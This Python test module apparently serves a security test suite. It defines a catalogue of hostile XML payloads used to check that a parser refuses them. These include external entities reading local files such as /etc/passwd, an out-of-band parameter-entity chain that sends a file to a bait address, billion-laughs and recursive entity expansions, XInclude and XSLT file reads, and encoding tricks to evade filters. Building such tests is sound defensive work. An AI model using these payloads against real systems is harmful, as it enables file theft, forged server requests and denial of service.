"""XML that means harm, as something that is done to a document that means none."""

from __future__ import annotations

from collections.abc import Callable
from dataclasses import dataclass

from tests.hostile.reaching import Bait

LONG = "x" * 50_000
MANY = " ".join(f'a{number}="x"' for number in range(9000))
TEN = "&a{0};" * 10
LAUGHS = '<!ENTITY a0 "ha">' + "".join(
    f'<!ENTITY a{number} "{TEN.format(number - 1)}">' for number in range(1, 10)
)


@dataclass(frozen=True)
class Trap:
    """``prolog`` stands before the first element and ``inside`` where a text stood; FILE and ADDRESS are the
    bait's. ``harmless``: no document type, and a reader that knows nothing of it may read on."""

    prolog: str = ""
    inside: str = ""
    encoding: str = "utf-8"
    harmless: bool = False

    def sprung(self, document: str, word: str, bait: Bait) -> bytes:
        """The document with this trap in the place of each ``word``."""
        root = document[document.find("?>") + 2 :] if document.startswith("<?xml") else document
        declared = f'<?xml version="1.0" encoding="{self.encoding}"?>'
        text = declared + self.prolog + (root.replace(word, self.inside) if self.inside else root)
        for name, place in (("FILE", bait.file.as_uri()), ("ADDRESS", bait.address)):
            text = text.replace(name, place)
        return ENCODERS.get(self.encoding, str.encode)(text)


def _utf_7(text: str) -> bytes:
    """Its angle brackets too, which Python's own leaves readable."""
    first = text.index("?>") + 2
    return text[:first].encode() + text[first:].replace("<", "+ADw-").replace("!", "+ACE-").encode()


ENCODERS: dict[str, Callable[[str], bytes]] = {
    "utf-16": lambda text: text.encode("utf-16"),
    "utf-16le": lambda text: text.encode("utf-16-le"),
    "utf-16be": lambda text: b"\xfe\xff" + text.encode("utf-16-be"),
    "utf-32": lambda text: text.encode("utf-32"),
    "utf-7": _utf_7,
    "cp037": lambda text: text.encode("cp037"),
}
OF_FILE = '<!DOCTYPE x [<!ENTITY e SYSTEM "FILE">]>'
OF_ADDRESS = '<!DOCTYPE x [<!ENTITY e SYSTEM "ADDRESS">]>'

TRAPS = {
    "entity of a file": Trap(OF_FILE, "&e;"),
    "entity of an address": Trap(OF_ADDRESS, "&e;"),
    "entity with a public name": Trap('<!DOCTYPE x [<!ENTITY e PUBLIC "x" "ADDRESS">]>', "&e;"),
    "entity of a path": Trap('<!DOCTYPE x [<!ENTITY e SYSTEM "/etc/passwd">]>', "&e;"),
    "entity nobody asks for": Trap(OF_ADDRESS),
    "parameter entity": Trap('<!DOCTYPE x [<!ENTITY % p SYSTEM "ADDRESS"> %p;]>'),
    "parameter entity that sends a file": Trap(
        '<!DOCTYPE x [<!ENTITY % f SYSTEM "FILE"><!ENTITY % p SYSTEM "ADDRESS"> %p; %send;]>'
    ),
    "parameter entity that makes another": Trap(
        "<!DOCTYPE x [<!ENTITY % f \"<!ENTITY e SYSTEM 'ADDRESS'>\"> %f;]>", "&e;"
    ),
    "document type at an address": Trap('<!DOCTYPE x SYSTEM "ADDRESS">'),
    "document type with a public name": Trap('<!DOCTYPE x PUBLIC "-//X//Y" "ADDRESS">'),
    "document type in a file": Trap('<!DOCTYPE x SYSTEM "FILE">'),
    "document type and nothing in it": Trap("<!DOCTYPE x>"),
    "laughs": Trap(f"<!DOCTYPE x [{LAUGHS}]>", "&a9;"),
    "laughs of parameters": Trap(
        "<!DOCTYPE x [<!ENTITY % a 'ha'><!ENTITY % b '%a;%a;%a;'><!ENTITY c '%b;'>]>", "&c;"
    ),
    "one entity many times": Trap(f"<!DOCTYPE x [<!ENTITY e '{LONG}'>]>", "&e;" * 10_000),
    "entity of itself": Trap('<!DOCTYPE x [<!ENTITY e "&f;"><!ENTITY f "&e;">]>', "&e;"),
    "entity in an attribute": Trap(f"<!DOCTYPE x [{LAUGHS}]>", '<x y="&a9;"/>'),
    "attribute by default": Trap('<!DOCTYPE x [<!ATTLIST x href CDATA "ADDRESS">]>'),
    "unparsed entity": Trap(
        '<!DOCTYPE x [<!NOTATION n SYSTEM "ADDRESS"><!ENTITY e SYSTEM "FILE" NDATA n>]>', '<x y="e"/>'
    ),
    "conditional section": Trap('<!DOCTYPE x [<![INCLUDE[<!ENTITY e SYSTEM "FILE">]]>]>', "&e;"),
    "in UTF-16": Trap(OF_FILE, "&e;", "utf-16"),
    "in UTF-16 without a mark": Trap(OF_FILE, "&e;", "utf-16le"),
    "in UTF-16, the other way round": Trap(OF_FILE, "&e;", "utf-16be"),
    "in UTF-32": Trap(OF_FILE, "&e;", "utf-32"),
    "in UTF-7": Trap(OF_FILE, "&e;", "utf-7"),
    "in EBCDIC": Trap(OF_FILE, "&e;", "cp037"),
    "behind a long comment": Trap(f"<!--{LONG * 2}-->{OF_FILE}", "&e;"),
    "behind a long comment, and nobody asks": Trap(f"<!--{LONG * 2}-->{OF_ADDRESS}"),
    "behind a long comment, in UTF-16": Trap(f"<!--{LONG * 2}-->{OF_ADDRESS}", "", "utf-16"),
    "behind an instruction": Trap(f"<?x y?>\n\n{OF_FILE}", "&e;"),
    "in small letters": Trap('<!doctype x [<!entity e SYSTEM "FILE">]>', "&e;"),
    "entity that nobody declared": Trap(inside="&e;"),
    "deep": Trap(inside="<a>" * 10_000 + "</a>" * 10_000, harmless=True),
    "an attribute without end": Trap(inside=f'<a b="{LONG * 2}"/>', harmless=True),
    "many attributes": Trap(inside=f"<a {MANY}/>", harmless=True),
    "included file": Trap(
        inside='<i:include xmlns:i="http://www.w3.org/2001/XInclude" href="FILE" parse="text"/>',
        harmless=True,
    ),
    "included address": Trap(
        inside='<i:include xmlns:i="http://www.w3.org/2001/XInclude" href="ADDRESS"/>', harmless=True
    ),
    "style sheet": Trap('<?xml-stylesheet type="text/xsl" href="ADDRESS"?>', harmless=True),
    "schema at an address": Trap(
        inside='<a xmlns:s="http://www.w3.org/2001/XMLSchema-instance" s:schemaLocation="urn:x ADDRESS"/>',
        harmless=True,
    ),
    "transformation": Trap(
        inside='<t:value-of xmlns:t="http://www.w3.org/1999/XSL/Transform" select="document(\'FILE\')"/>',
        harmless=True,
    ),
}
